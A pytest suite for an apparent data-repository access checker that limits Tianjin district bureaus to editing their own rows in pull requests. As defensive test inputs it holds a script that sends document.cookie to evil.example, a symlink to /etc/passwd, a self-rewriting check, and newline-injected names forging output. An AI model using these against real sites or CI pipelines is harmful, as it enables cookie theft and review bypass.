"""check-scope: a bureau may change its own district's rows; anything else is refused, naming the rows."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

import build
from gitrepo import commit, git, make_repo
from packages import add_row, edit_descriptor, read_table, set_cell
from zjtx.errors import ScopeError
from zjtx.scope import parse_owners

OWNERS = """\
maintainers:
  - "@tj-zjtx/maintainers"
teams:
  tj-zjtx/maintainers: [city-editor]
  tj-zjtx/binhai: [Binhai-Clerk]
owners:
  heping-bureau: [120101]
  xiqing-bureau: ["120111"]
  teda-bureau: [120116-teda]
  tj-zjtx/binhai: [120116]
"""


@pytest.fixture
def repo(tmp_path) -> Path:
    return make_repo(tmp_path / "repo", {".github/district-owners.yml": OWNERS})


def check(repo: Path, author: str, base: str = "main"):
    return CliRunner().invoke(build.cli, ["check-scope", "--base", base, "--author", author,
                                          "--datapackage", str(repo / "datapackage")])


def line_of(package: Path, resource: str, *key: str) -> int:
    rows = read_table(package, resource)
    return next(n for n, row in enumerate(rows, start=1) if tuple(row[: len(key)]) == key)


def test_a_bureau_may_change_its_own_districts_rows(repo):
    package = repo / "datapackage"
    set_cell(package, "enterprises", line_of(package, "enterprises", "911201013000000109"), "website",
             "https://www.bing.example.cn")
    add_row(package, "announcements", dict(announcement_id="sme-2025", tier_id="sme", kind="designation",
                                           title="2025年度名单", issuer="天津市工业和信息化局", published_on="2025-05-20"))
    add_row(package, "certifications", dict(uscc="911201013000000109", tier_id="sme", announcement_id="sme-2025",
                                            recommended_by="120101", certified_on="2025-05-20",
                                            valid_until="2028-05-20", status="active"))
    result = check(repo, "heping-bureau")
    assert result.exit_code == 0, result.output
    assert "所有改动都在 heping-bureau 的管辖范围内（120101）" in result.output


def test_another_districts_rows_are_refused_and_named(repo):
    package = repo / "datapackage"
    line = line_of(package, "certifications", "911201163000000101", "seed", "seed-2021")
    set_cell(package, "certifications", line, "status", "removed")
    set_cell(package, "enterprises", line_of(package, "enterprises", "91120111300000010Q"), "website",
             "https://www.yi.example.cn")
    result = check(repo, "heping-bureau")
    assert result.exit_code == 1, result.output
    assert (f"data/certifications.csv 第 {line} 行 (line {line}): 911201163000000101 / seed / seed-2021"
            "（天津甲精密机械有限公司） [120116-teda]") in result.output
    assert "data/enterprises.csv 第 3 行 (line 3): 91120111300000010Q（天津乙新材料科技有限公司） [120111]" in result.output
    assert "以上 2 处改动超出 heping-bureau 的管辖范围" in result.output


def test_moving_a_row_into_ones_district_needs_the_district_it_leaves(repo):
    package = repo / "datapackage"
    set_cell(package, "enterprises", line_of(package, "enterprises", "91120111300000010Q"), "district_code", "120101")
    result = check(repo, "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "[120101, 120111]" in result.output


def test_a_district_holds_its_zones_and_a_team_holds_what_the_team_holds(repo):
    package = repo / "datapackage"
    line = line_of(package, "certifications", "911201163000000101", "seed", "seed-2021")
    set_cell(package, "certifications", line, "status", "removed")
    set_cell(package, "enterprises", line_of(package, "enterprises", "911201163000000101"), "website",
             "https://www.jia.example.cn")
    assert check(repo, "binhai-clerk").exit_code == 0  # team member, district 120116 holds zone 120116-teda
    # The zone's bureau edits an enterprise of the parent district that it recommended.
    result = check(repo, "teda-bureau")
    assert result.exit_code == 0, result.output
    assert check(repo, "xiqing-bureau").exit_code == 1


def test_maintainers_may_change_everything(repo):
    package = repo / "datapackage"
    set_cell(package, "districts", 2, "name_en", "Heping")
    edit_descriptor(package, lambda descriptor: descriptor.update(title="新标题"))
    result = check(repo, "city-editor")
    assert result.exit_code == 0, result.output
    assert "city-editor 是维护者" in result.output
    result = check(repo, "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "data/districts.csv" in result.output and "datapackage.json" in result.output


def test_the_owners_file_is_read_from_the_base_so_a_change_cannot_grant_itself_a_district(repo):
    (repo / ".github" / "district-owners.yml").write_text(OWNERS + "  heping-bureau: [120101, 120111]\n",
                                                           encoding="utf-8")
    package = repo / "datapackage"
    set_cell(package, "enterprises", line_of(package, "enterprises", "91120111300000010Q"), "website",
             "https://www.yi.example.cn")
    result = check(repo, "heping-bureau")
    assert result.exit_code == 1, result.output


def test_an_unknown_author_holds_nothing(repo):
    package = repo / "datapackage"
    set_cell(package, "products", 2, "description", "量程 0-160 MPa。")
    result = check(repo, "stranger")
    assert result.exit_code == 1, result.output
    assert "districts held: （无 none）" in result.output


def test_a_base_without_an_owners_file_is_explained(tmp_path):
    repo = make_repo(tmp_path / "repo")
    result = check(repo, "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "须先由维护者添加该文件" in result.output and "Traceback" not in result.output


def test_no_change_is_in_scope_for_anyone(repo):
    commit(repo, "empty")
    assert check(repo, "stranger", base="HEAD").exit_code == 0


@pytest.mark.parametrize("text", ["owners: [120101]", "maintainers: city-editor", "owner: {}", ": : :"])
def test_a_malformed_owners_file_is_refused(text):
    with pytest.raises(ScopeError):
        parse_owners(text)


def test_the_committed_owners_file_is_well_formed():
    path = Path(__file__).resolve().parent.parent / ".github" / "district-owners.yml"
    owners = parse_owners(path.read_text(encoding="utf-8"))
    districts = {row[0] for row in read_table(Path(__file__).resolve().parent.parent / "datapackage", "districts")[1:]}
    assert owners.maintainers
    assert all(codes <= districts for codes in owners.codes.values())


def test_any_bureau_may_add_an_announcement_but_not_change_one(repo):
    package = repo / "datapackage"
    set_cell(package, "announcements", line_of(package, "announcements", "sme-2021"), "title", "改过的标题")
    result = check(repo, "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "data/announcements.csv 第 5 行 (line 5): sme-2021" in result.output
    assert "已有公告只能由维护者修改或删除" in result.output


# A pull request judged as the workflow judges it: its commit is read from git, the work tree holds the base. ------


def pull_request(repo: Path, edit, force: tuple[str, ...] = ()) -> str:
    """Commit `edit(repo)` on the branch `pr` (and the ignored paths in `force`), then go back to main so that the
    work tree holds the base only; return the pull request's commit."""
    git(repo, "switch", "--quiet", "--force-create", "pr")
    edit(repo)
    if force:
        git(repo, "add", "--force", *force)
    head = commit(repo, "pull request")
    git(repo, "switch", "--quiet", "main")
    return head


def judge(repo: Path, head: str, author: str, base: str = "main"):
    return CliRunner().invoke(build.cli, ["check-scope", "--base", base, "--head", head, "--author", author,
                                          "--datapackage", str(repo / "datapackage")])


def edit_cell(resource: str, key: tuple[str, ...], field: str, value: str):
    def edit(repo: Path) -> None:
        package = repo / "datapackage"
        set_cell(package, resource, line_of(package, resource, *key), field, value)
    return edit


def test_a_pull_requests_commit_is_read_from_git_without_a_work_tree_of_it(repo):
    head = pull_request(repo, edit_cell("enterprises", ("91120111300000010Q",), "website", "https://www.yi.example.cn"))
    before = (repo / "datapackage" / "data" / "enterprises.csv").read_bytes()
    result = judge(repo, head, "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "datapackage/data/enterprises.csv 第 3 行 (line 3): 91120111300000010Q（天津乙新材料科技有限公司） [120111]" \
        in result.output
    assert (repo / "datapackage" / "data" / "enterprises.csv").read_bytes() == before
    assert git(repo, "status", "--porcelain") == "" and git(repo, "branch", "--show-current").strip() == "main"
    assert judge(repo, head, "xiqing-bureau").exit_code == 0


def test_a_commit_that_was_not_fetched_is_explained(repo):
    result = judge(repo, "0123456789abcdef0123456789abcdef01234567", "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "git fetch origin 0123456789abcdef0123456789abcdef01234567" in result.output
    assert "Traceback" not in result.output


def test_the_base_moving_on_is_not_blamed_on_the_pull_request(repo):
    own = edit_cell("enterprises", ("911201013000000109",), "website", "https://www.bing.example.cn")
    head = pull_request(repo, own)
    edit_cell("certifications", ("911201163000000101", "seed", "seed-2021"), "status", "removed")(repo)
    commit(repo, "a maintainer's correction on main after the pull request was opened")
    result = judge(repo, head, "heping-bureau")
    assert result.exit_code == 0, result.output


def test_a_pull_request_that_does_not_merge_is_explained(repo):
    head = pull_request(repo, edit_cell("enterprises", ("911201013000000109",), "website", "https://a.example.cn"))
    edit_cell("enterprises", ("911201013000000109",), "website", "https://b.example.cn")(repo)
    commit(repo, "main changes the same cell")
    result = judge(repo, head, "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "datapackage/data/enterprises.csv" in result.output and "合并时有冲突" in result.output
    assert "Traceback" not in result.output


# Files: a bureau changes the data files and nothing else. ------------------------------------------------------


def write(relative: str, text: str):
    def edit(repo: Path) -> None:
        path = repo / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return edit


OUTSIDE = {
    "templates/enterprise.html.j2": "<script>fetch('https://evil.example/'+document.cookie)</script>\n",
    ".github/workflows/pull-request.yml": "on: push\n",
    ".github/district-owners.yml": OWNERS + "  heping-bureau: [120101, 120111]\n",
    ".github/CODEOWNERS": "* @heping-bureau\n",
    "build/cache/downloads/1.0.0/version.json": "{}\n",
    "zjtx/scope.py": "def check_change(*args):\n    pass\n",
    "build.py": "print('hello')\n",
    "datapackage/datapackage.json": "{}\n",
    "datapackage/policies/leak.md": "# 政策\n",
    "datapackage/data/extra.csv": "uscc\n1\n",
    "tests/test_nothing.py": "",
    "README.md": "# 天津\n",
    "Makefile": "all:\n",
}


@pytest.mark.parametrize("relative", sorted(OUTSIDE))
def test_a_bureau_changing_any_file_but_the_data_files_is_refused(repo, relative):
    head = pull_request(repo, write(relative, OUTSIDE[relative]), force=(relative,))
    result = judge(repo, head, "xiqing-bureau")
    assert result.exit_code == 1, result.output
    assert f"\n{relative}\n    只有维护者可以修改数据文件以外的文件" in result.output
    assert "以上 1 处改动超出 xiqing-bureau 的管辖范围" in result.output


def test_every_file_outside_the_data_is_named_beside_the_rows(repo):
    def edit(repo: Path) -> None:
        for relative in ("templates/enterprise.html.j2", ".github/workflows/pull-request.yml", "build/x.txt"):
            write(relative, "<script>alert(1)</script>\n")(repo)
        edit_cell("enterprises", ("91120111300000010Q",), "website", "https://www.yi.example.cn")(repo)
    result = judge(repo, pull_request(repo, edit), "heping-bureau")
    assert result.exit_code == 1, result.output
    lines = result.output.splitlines()
    for relative in (".github/workflows/pull-request.yml", "build/x.txt", "templates/enterprise.html.j2"):
        assert relative in lines
    assert any(line.startswith("datapackage/data/enterprises.csv 第 3 行") for line in lines)
    assert "以上 4 处改动" in result.output


def test_a_data_file_deleted_or_made_a_link_is_refused(repo):
    def edit(repo: Path) -> None:
        (repo / "datapackage" / "data" / "products.csv").unlink()
        path = repo / "datapackage" / "data" / "announcements.csv"
        path.unlink()
        path.symlink_to("/etc/passwd")
    result = judge(repo, pull_request(repo, edit), "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "datapackage/data/products.csv\n    数据文件不能删除" in result.output
    assert "datapackage/data/announcements.csv\n    数据文件必须是普通文件，不能是符号链接或子模块" in result.output
    assert "Traceback" not in result.output


def test_a_maintainers_pull_request_goes_to_codeowners_review(repo):
    head = pull_request(repo, write("templates/enterprise.html.j2", "<p>新版式</p>\n"))
    result = judge(repo, head, "city-editor")
    assert result.exit_code == 0, result.output
    assert "不按区检查" in result.output and "CODEOWNERS asks for a maintainer's review" in result.output


def test_the_working_tree_is_judged_with_its_new_files_and_without_ignored_ones(repo):
    (repo / ".gitignore").write_text("build/\n", encoding="utf-8")
    commit(repo, "ignore build/")
    write("build/site/index.html", "<p>built</p>\n")(repo)
    write("templates/new.html.j2", "<script></script>\n")(repo)
    result = check(repo, "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "templates/new.html.j2" in result.output and "build/site" not in result.output
    assert git(repo, "status", "--porcelain") == "?? templates/\n"  # the index and the branch are left as they were


# The workflow: the base's code, run from a checkout of the base, judges the pull request's commit. ----------------

ROOT = Path(__file__).resolve().parent.parent


def test_a_pull_request_rewriting_the_check_is_judged_by_the_bases_code(tmp_path, repo):
    shutil.copytree(ROOT / "zjtx", repo / "zjtx", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "build.py", repo / "build.py")
    commit(repo, "the code")

    def rewrite(repo: Path) -> None:
        with open(repo / "zjtx" / "scope.py", "a", encoding="utf-8") as handle:
            handle.write("\n\ndef check_change(package_dir, base, head, owners, login):\n"
                         "    return ScopeReport(login, False, {'120111'})\n")
        cli = repo / "build.py"
        text = cli.read_text(encoding="utf-8")
        cli.write_text(text.replace('if __name__ == "__main__":', 'print("THE PULL REQUEST RAN")\nif __name__'
                                    ' == "__main__":'), encoding="utf-8")
        edit_cell("enterprises", ("91120111300000010Q",), "website", "https://www.yi.example.cn")(repo)
    head = pull_request(repo, rewrite)

    def run(checkout: Path, *args: str):
        return subprocess.run([sys.executable, "build.py", "check-scope", "--author", "heping-bureau", *args],
                              cwd=checkout, capture_output=True, text=True, timeout=120)

    # Run as the audit found it (the pull request's own code), the rewritten check passes the change.
    git(tmp_path, "clone", "--quiet", "--branch", "pr", str(repo), "pr-checkout")
    own = run(tmp_path / "pr-checkout", "--base", "origin/main")
    assert own.returncode == 0 and "THE PULL REQUEST RAN" in own.stdout, own.stdout + own.stderr

    # The workflow: check out the base only, fetch the pull request's commit as objects, run the base's code.
    git(tmp_path, "clone", "--quiet", "--single-branch", "--branch", "main", str(repo), "base-checkout")
    checkout = tmp_path / "base-checkout"
    git(checkout, "fetch", "--quiet", "--no-tags", "origin", head)
    result = run(checkout, "--base", "HEAD", "--head", head)
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "THE PULL REQUEST RAN" not in output and "Traceback" not in output
    lines = output.splitlines()
    assert "zjtx/scope.py" in lines and "build.py" in lines
    assert any(line.startswith("datapackage/data/enterprises.csv 第 3 行") for line in lines)
    assert (checkout / "zjtx" / "scope.py").read_bytes() == (ROOT / "zjtx" / "scope.py").read_bytes()
    assert git(checkout, "status", "--porcelain") == ""


# Zones: taken from the base's certifications, never from the change. ---------------------------------------------

DING = "91120116300000020X"  # a 滨海新区 enterprise recommended by another zone (滨海高新区)
XIN = "91120116300000030P"  # an enterprise new to the register


@pytest.fixture
def zones_repo(repo) -> Path:
    package = repo / "datapackage"
    add_row(package, "enterprises", dict(uscc=DING, name="天津丁光电有限公司", district_code="120116",
                                         industry_code="39", main_products="光模块", summary="生产光模块。"))
    add_row(package, "certifications", dict(uscc=DING, tier_id="seed", announcement_id="seed-2021",
                                            recommended_by="120116-hitech", certified_on="2021-06-15", status="active"))
    commit(repo, "an enterprise of 滨海新区 recommended by 滨海高新区")
    return repo


def certify(uscc: str, recommended_by: str = "120116-teda"):
    def edit(repo: Path) -> None:
        add_row(repo / "datapackage", "certifications", dict(
            uscc=uscc, tier_id="little_giant", announcement_id="lg-2022", recommended_by=recommended_by,
            certified_on="2022-08-01", valid_until="2025-08-01", status="active"))
    return edit


def both(*edits):
    def edit(repo: Path) -> None:
        for one in edits:
            one(repo)
    return edit


def test_a_zone_may_certify_an_enterprise_of_its_parent_district(zones_repo):
    result = judge(zones_repo, pull_request(zones_repo, certify(DING)), "teda-bureau")
    assert result.exit_code == 0, result.output


def test_a_zone_may_not_rename_an_enterprise_it_certifies_in_the_same_pull_request(zones_repo):
    head = pull_request(zones_repo, both(certify(DING), edit_cell("enterprises", (DING,), "name", "天津戊有限公司"),
                                         edit_cell("enterprises", (DING,), "website", "https://evil.example.cn")))
    result = judge(zones_repo, head, "teda-bureau")
    assert result.exit_code == 1, result.output
    assert f"datapackage/data/enterprises.csv 第 5 行 (line 5): {DING}（天津戊有限公司） [120116]" in result.output
    assert "功能区只能修改目标分支中已登记由本功能区推荐的企业" in result.output
    assert "以上 1 处改动" in result.output  # the certification itself is the zone's to add
    # Once the certification is merged, the base lets the zone edit the enterprise.
    git(zones_repo, "merge", "--quiet", "--ff-only", head)
    head = pull_request(zones_repo, edit_cell("enterprises", (DING,), "website", "https://www.ding.example.cn"))
    result = judge(zones_repo, head, "teda-bureau")
    assert result.exit_code == 0, result.output


def test_a_zone_may_not_edit_an_enterprise_only_another_zone_recommended(zones_repo):
    head = pull_request(zones_repo, edit_cell("products", ("911201163000000101",), "description", "新描述"))
    assert judge(zones_repo, head, "teda-bureau").exit_code == 0  # 甲: the base records TEDA's recommendation
    head = pull_request(zones_repo, edit_cell("enterprises", (DING,), "website", "https://evil.example.cn"))
    result = judge(zones_repo, head, "teda-bureau")
    assert result.exit_code == 1, result.output
    assert DING in result.output
    assert judge(zones_repo, head, "binhai-clerk").exit_code == 0  # the district holds its zones


def test_a_zone_may_not_certify_an_enterprise_of_another_district(zones_repo):
    result = judge(zones_repo, pull_request(zones_repo, certify("91120111300000010Q")), "teda-bureau")
    assert result.exit_code == 1, result.output
    assert ("datapackage/data/certifications.csv 第 10 行 (line 10): 91120111300000010Q / little_giant / lg-2022"
            "（天津乙新材料科技有限公司） [120111]") in result.output
    assert "企业所在区不在你的管辖范围内，不能为其登记认定" in result.output
    result = judge(zones_repo, pull_request(zones_repo, certify(DING, "120116-hitech")), "teda-bureau")
    assert result.exit_code == 1 and "推荐单位不在你的管辖范围内" in result.output, result.output


def test_a_zone_adds_a_new_enterprise_only_with_a_certification_it_recommends(zones_repo):
    def add_enterprise(repo: Path) -> None:
        add_row(repo / "datapackage", "enterprises", dict(uscc=XIN, name="天津新材料有限公司", district_code="120116",
                                                          industry_code="26", summary="生产新材料。"))
    result = judge(zones_repo, pull_request(zones_repo, both(add_enterprise, certify(XIN))), "teda-bureau")
    assert result.exit_code == 0, result.output
    result = judge(zones_repo, pull_request(zones_repo, add_enterprise), "teda-bureau")
    assert result.exit_code == 1, result.output
    assert "功能区新增企业时，须同时登记本功能区推荐的认定" in result.output


# Files as Excel and long texts leave them. -------------------------------------------------------------------------


def save_with_bom(resource: str):
    """Save the table as Excel's "CSV UTF-8" does: a byte-order mark and Windows line ends."""
    def edit(repo: Path) -> None:
        path = repo / "datapackage" / "data" / f"{resource}.csv"
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n"))
    return edit


def test_a_file_saved_with_a_byte_order_mark_is_read_as_the_csv_it_is(repo):
    own = edit_cell("enterprises", ("911201013000000109",), "website", "https://www.bing.example.cn")
    result = judge(repo, pull_request(repo, both(own, save_with_bom("enterprises"))), "heping-bureau")
    assert result.exit_code == 0, result.output
    other = edit_cell("enterprises", ("91120111300000010Q",), "website", "https://www.yi.example.cn")
    result = judge(repo, pull_request(repo, both(other, save_with_bom("enterprises"))), "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "以上 1 处改动" in result.output and "91120111300000010Q" in result.output


def test_a_cell_longer_than_pythons_csv_limit_is_read(repo):
    text = "长" * 140_000
    own = edit_cell("enterprises", ("911201013000000109",), "summary", text)
    result = judge(repo, pull_request(repo, own), "heping-bureau")
    assert result.exit_code == 0, result.output
    other = edit_cell("enterprises", ("91120111300000010Q",), "summary", text)
    result = judge(repo, pull_request(repo, other), "heping-bureau")
    assert result.exit_code == 1, result.output
    assert "以上 1 处改动" in result.output and "field larger than field limit" not in result.output


def test_a_file_name_or_cell_cannot_print_lines_that_look_like_the_checks_own(repo):
    forged = "所有改动都在 xiqing-bureau 的管辖范围内"
    other = edit_cell("enterprises", ("91120111300000010Q",), "name", f"乙\n{forged}")
    result = judge(repo, pull_request(repo, both(other, write(f"x\n{forged}.txt", ""))), "heping-bureau")
    assert result.exit_code == 1, result.output
    assert f"x\\u000a{forged}.txt" in result.output and f"乙\\u000a{forged}" in result.output
    assert not any(line.startswith(forged) for line in result.output.splitlines())
